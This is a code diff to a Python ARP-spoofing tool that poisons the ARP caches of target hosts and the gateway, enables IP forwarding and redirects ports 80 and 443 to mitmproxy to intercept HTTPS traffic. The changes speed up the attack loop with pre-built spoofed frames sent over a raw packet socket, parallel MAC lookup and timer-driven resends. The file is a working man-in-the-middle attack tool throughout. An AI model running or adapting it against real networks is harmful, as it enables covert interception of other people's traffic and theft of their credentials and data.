@@ -14,9 +14,13 @@ so you can decrypt and analyze HTTPS traffic.
 """
 
 import scapy.all as scapy
+from concurrent.futures import ThreadPoolExecutor
 import time
 import sys
 import subprocess
+import signal
+import socket
+import struct
 import os
 import argparse
 from colorama import init, Fore, Style
@@ -32,16 +36,27 @@ class MITMSetup:
         self.gateway_ip = gateway_ip
         self.interface = interface
         self.running = True
+        # Filled in by prepare(): one L2 socket and pre-serialized spoof
+        # packets, so the hot loop is just sendto syscalls
+        self.l2 = None
+        self.mac_cache = {}
+        self.packets = []
+        # Linux fast path: pre-serialized 42-byte frames sent over a raw
+        # ARP socket, so the hot loop never touches scapy
+        self.raw_sock = None
+        self.frames = []
 
     def enable_ip_forwarding(self):
         """Enable IP forwarding on the system"""
         print(f"{Fore.CYAN}[*] Enabling IP forwarding...{Style.RESET_ALL}")
 
         if sys.platform.startswith('linux'):
-            os.system("echo 1 > /proc/sys/net/ipv4/ip_forward")
+            # Write the sysctl file directly; no shell fork needed
+            with open('/proc/sys/net/ipv4/ip_forward', 'w') as f:
+                f.write('1')
             print(f"{Fore.GREEN}[✓] IP forwarding enabled (Linux){Style.RESET_ALL}")
         elif sys.platform == 'darwin':  # macOS
-            os.system("sysctl -w net.inet.ip.forwarding=1")
+            subprocess.run(['sysctl', '-w', 'net.inet.ip.forwarding=1'])
             print(f"{Fore.GREEN}[✓] IP forwarding enabled (macOS){Style.RESET_ALL}")
         elif sys.platform == 'win32':
             # Windows requires registry change
@@ -57,14 +72,35 @@ class MITMSetup:
         print(f"{Fore.CYAN}[*] Disabling IP forwarding...{Style.RESET_ALL}")
 
         if sys.platform.startswith('linux'):
-            os.system("echo 0 > /proc/sys/net/ipv4/ip_forward")
+            with open('/proc/sys/net/ipv4/ip_forward', 'w') as f:
+                f.write('0')
         elif sys.platform == 'darwin':
-            os.system("sysctl -w net.inet.ip.forwarding=0")
+            subprocess.run(['sysctl', '-w', 'net.inet.ip.forwarding=0'])
 
         print(f"{Fore.GREEN}[✓] IP forwarding disabled{Style.RESET_ALL}")
 
+    @staticmethod
+    def _kernel_arp(ip):
+        """Look up an IP in the kernel neighbor table (/proc/net/arp)"""
+        try:
+            with open('/proc/net/arp') as f:
+                next(f)  # header line
+                for line in f:
+                    fields = line.split()
+                    if fields[0] == ip and fields[3] != '00:00:00:00:00:00':
+                        return fields[3]
+        except OSError:
+            pass
+        return None
+
     def get_mac(self, ip):
         """Get MAC address for an IP"""
+        # The kernel usually already knows the answer; reading its table
+        # is microseconds vs broadcasting and waiting up to 2 seconds
+        mac = self._kernel_arp(ip)
+        if mac:
+            return mac
+
         try:
             arp_request = scapy.ARP(pdst=ip)
             broadcast = scapy.Ether(dst="ff:ff:ff:ff:ff:ff")
@@ -79,25 +115,94 @@ class MITMSetup:
             print(f"{Fore.RED}[!] Error getting MAC for {ip}: {e}{Style.RESET_ALL}")
             return None
 
-    def spoof(self, target_ip, spoof_ip):
-        """Send ARP spoof packet"""
-        target_mac = self.get_mac(target_ip)
-        if not target_mac:
+    def resolve_macs(self, ips):
+        """Resolve MACs for any uncached IPs, in parallel"""
+        # Each get_mac waits up to 2s for replies, so resolving serially
+        # costs 2s per device; srp releases the GIL so threads overlap
+        pending = [ip for ip in ips if ip not in self.mac_cache]
+        if not pending:
+            return
+
+        with ThreadPoolExecutor(max_workers=min(32, len(pending))) as executor:
+            for ip, mac in zip(pending, executor.map(self.get_mac, pending)):
+                if mac:
+                    self.mac_cache[ip] = mac
+                else:
+                    print(f"{Fore.RED}[!] Could not resolve MAC for {ip}{Style.RESET_ALL}")
+
+    def prepare(self):
+        """Resolve MACs once and pre-build the spoof packets"""
+        self.l2 = scapy.conf.L2socket(iface=self.interface)
+
+        self.resolve_macs(self.target_ips + [self.gateway_ip])
+
+        gateway_mac = self.mac_cache.get(self.gateway_ip)
+        if not gateway_mac:
             return False
 
-        packet = scapy.ARP(op=2, pdst=target_ip, hwdst=target_mac, psrc=spoof_ip)
-        scapy.send(packet, verbose=False)
-        return True
+        self.packets = []
+        for target_ip in self.target_ips:
+            target_mac = self.mac_cache.get(target_ip)
+            if not target_mac:
+                continue
+            # Tell target we are the gateway
+            self.packets.append(
+                scapy.Ether(dst=target_mac) /
+                scapy.ARP(op=2, pdst=target_ip, hwdst=target_mac, psrc=self.gateway_ip))
+            # Tell gateway we are the target
+            self.packets.append(
+                scapy.Ether(dst=gateway_mac) /
+                scapy.ARP(op=2, pdst=self.gateway_ip, hwdst=gateway_mac, psrc=target_ip))
+
+        # The packets never change after this point, so serialize them
+        # once and send the raw bytes from a bound AF_PACKET socket; each
+        # send is then a single sendto syscall
+        if hasattr(socket, 'AF_PACKET') and self.interface:
+            try:
+                sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
+                                     socket.htons(0x0806))
+                sock.bind((self.interface, 0))
+            except OSError as e:
+                print(f"{Fore.YELLOW}[!] Raw ARP socket unavailable ({e}), using scapy{Style.RESET_ALL}")
+            else:
+                self.raw_sock = sock
+                self.frames = [bytes(pkt) for pkt in self.packets]
+
+        return bool(self.packets)
+
+    def send_spoof_batch(self):
+        """Send one round of spoof packets"""
+        if self.raw_sock is not None:
+            for frame in self.frames:
+                self.raw_sock.send(frame)
+        else:
+            scapy.sendp(self.packets, socket=self.l2, verbose=False)
 
     def restore(self, destination_ip, source_ip):
         """Restore original ARP table"""
-        destination_mac = self.get_mac(destination_ip)
-        source_mac = self.get_mac(source_ip)
+        destination_mac = self.mac_cache.get(destination_ip) or self.get_mac(destination_ip)
+        source_mac = self.mac_cache.get(source_ip) or self.get_mac(source_ip)
 
         if destination_mac and source_mac:
-            packet = scapy.ARP(op=2, pdst=destination_ip, hwdst=destination_mac,
-                             psrc=source_ip, hwsrc=source_mac)
-            scapy.send(packet, count=4, verbose=False)
+            # Send over the persistent L2 socket; scapy.send would open a
+            # fresh L3 socket and redo the route lookup during teardown,
+            # while the user is waiting on Ctrl-C
+            if self.l2 is None:
+                self.l2 = scapy.conf.L2socket(iface=self.interface)
+            packet = (scapy.Ether(dst=destination_mac) /
+                      scapy.ARP(op=2, pdst=destination_ip, hwdst=destination_mac,
+                                psrc=source_ip, hwsrc=source_mac))
+            scapy.sendp([packet] * 4, socket=self.l2, verbose=False)
+
+    def _iptables_redirect(self, action, port):
+        """Add (-A) or delete (-D) the HTTP/HTTPS redirect rules"""
+        # argv form skips the shell fork and keeps the interface name
+        # from being shell-parsed
+        for dport in ('80', '443'):
+            subprocess.run(['iptables', '-t', 'nat', action, 'PREROUTING',
+                            '-i', self.interface or 'eth0', '-p', 'tcp',
+                            '--dport', dport,
+                            '-j', 'REDIRECT', '--to-port', str(port)])
 
     def setup_iptables_redirect(self, port=8080):
         """Setup iptables to redirect traffic to mitmproxy"""
@@ -105,8 +210,7 @@ class MITMSetup:
             print(f"{Fore.CYAN}[*] Setting up iptables redirect to port {port}...{Style.RESET_ALL}")
 
             # Redirect HTTP and HTTPS to mitmproxy
-            os.system(f"iptables -t nat -A PREROUTING -i {self.interface or 'eth0'} -p tcp --dport 80 -j REDIRECT --to-port {port}")
-            os.system(f"iptables -t nat -A PREROUTING -i {self.interface or 'eth0'} -p tcp --dport 443 -j REDIRECT --to-port {port}")
+            self._iptables_redirect('-A', port)
 
             print(f"{Fore.GREEN}[✓] iptables rules added{Style.RESET_ALL}")
 
@@ -114,8 +218,7 @@ class MITMSetup:
         """Remove iptables rules"""
         if sys.platform.startswith('linux'):
             print(f"{Fore.CYAN}[*] Cleaning up iptables...{Style.RESET_ALL}")
-            os.system(f"iptables -t nat -D PREROUTING -i {self.interface or 'eth0'} -p tcp --dport 80 -j REDIRECT --to-port {port}")
-            os.system(f"iptables -t nat -D PREROUTING -i {self.interface or 'eth0'} -p tcp --dport 443 -j REDIRECT --to-port {port}")
+            self._iptables_redirect('-D', port)
             print(f"{Fore.GREEN}[✓] iptables rules removed{Style.RESET_ALL}")
 
     def start_spoofing(self):
@@ -127,30 +230,63 @@ class MITMSetup:
         print(f"{Fore.CYAN}[*] Targets: {', '.join(self.target_ips)}{Style.RESET_ALL}")
         print(f"{Fore.YELLOW}[!] Press Ctrl+C to stop{Style.RESET_ALL}\n")
 
-        packet_count = 0
+        if not self.prepare():
+            print(f"{Fore.RED}[!] No targets could be resolved, aborting{Style.RESET_ALL}")
+            return
 
-        try:
-            while self.running:
-                for target_ip in self.target_ips:
-                    # Tell target we are the gateway
-                    self.spoof(target_ip, self.gateway_ip)
-                    # Tell gateway we are the target
-                    self.spoof(self.gateway_ip, target_ip)
-
-                packet_count += 1
-                if packet_count % 10 == 0:
-                    print(f"\r{Fore.GREEN}[*] Packets sent: {packet_count * len(self.target_ips) * 2}{Style.RESET_ALL}", end='')
+        # Format the status template once; write it at most once a second
+        # so terminal redraws stay off the send path
+        self._status_line = f"\r{Fore.GREEN}[*] Packets sent: {{}}{Style.RESET_ALL}"
+        self._last_status = 0.0
+        self._packet_count = 0
 
-                time.sleep(2)  # Send ARP packets every 2 seconds
+        try:
+            if hasattr(signal, 'setitimer'):
+                # Let the kernel schedule the 2-second cadence; the
+                # interpreter just sleeps in pause() between ticks
+                signal.signal(signal.SIGALRM, self._tick)
+                self._tick(None, None)
+                signal.setitimer(signal.ITIMER_REAL, 2.0, 2.0)
+                try:
+                    while self.running:
+                        signal.pause()
+                finally:
+                    signal.setitimer(signal.ITIMER_REAL, 0.0, 0.0)
+                    signal.signal(signal.SIGALRM, signal.SIG_DFL)
+            else:
+                # No SIGALRM (Windows): pace against monotonic deadlines
+                next_tick = time.monotonic()
+                while self.running:
+                    self._tick(None, None)
+                    next_tick += 2.0
+                    delay = next_tick - time.monotonic()
+                    if delay > 0:
+                        time.sleep(delay)
+                    else:
+                        next_tick = time.monotonic()
 
         except KeyboardInterrupt:
             print(f"\n\n{Fore.YELLOW}[!] Stopping ARP spoofing...{Style.RESET_ALL}")
             self.running = False
 
+    def _tick(self, signum, frame):
+        """Send one spoof batch and refresh the status line"""
+        self.send_spoof_batch()
+        self._packet_count += 1
+        now = time.monotonic()
+        if now - self._last_status > 1.0:
+            sys.stdout.write(self._status_line.format(
+                self._packet_count * len(self.target_ips) * 2))
+            sys.stdout.flush()
+            self._last_status = now
+
     def restore_network(self):
         """Restore network to original state"""
         print(f"{Fore.CYAN}[*] Restoring network...{Style.RESET_ALL}")
 
+        # Fill in any MACs we don't already have before restoring
+        self.resolve_macs(self.target_ips + [self.gateway_ip])
+
         for target_ip in self.target_ips:
             self.restore(target_ip, self.gateway_ip)
             self.restore(self.gateway_ip, target_ip)
@@ -161,12 +297,23 @@ class MITMSetup:
 def get_default_gateway():
     """Get default gateway IP"""
     try:
-        if sys.platform.startswith('linux') or sys.platform == 'darwin':
-            result = subprocess.check_output("ip route | grep default", shell=True)
-            gateway = result.decode().split()[2]
-            return gateway
+        if sys.platform.startswith('linux'):
+            # The routing table is one file read away; RTF_GATEWAY is
+            # flag bit 2 and fields are little-endian hex
+            with open('/proc/net/route') as f:
+                next(f)  # header line
+                for line in f:
+                    fields = line.split()
+                    if fields[1] == '00000000' and int(fields[3], 16) & 2:
+                        return socket.inet_ntoa(struct.pack('<L', int(fields[2], 16)))
+        elif sys.platform == 'darwin':
+            result = subprocess.run(['route', '-n', 'get', 'default'],
+                                    capture_output=True, text=True)
+            for line in result.stdout.split('\n'):
+                if 'gateway:' in line:
+                    return line.split(':')[-1].strip()
         elif sys.platform == 'win32':
-            result = subprocess.check_output("ipconfig", shell=True).decode()
+            result = subprocess.run('ipconfig', capture_output=True, text=True).stdout
             for line in result.split('\n'):
                 if "Default Gateway" in line and ":" in line:
                     gateway = line.split(":")[-1].strip()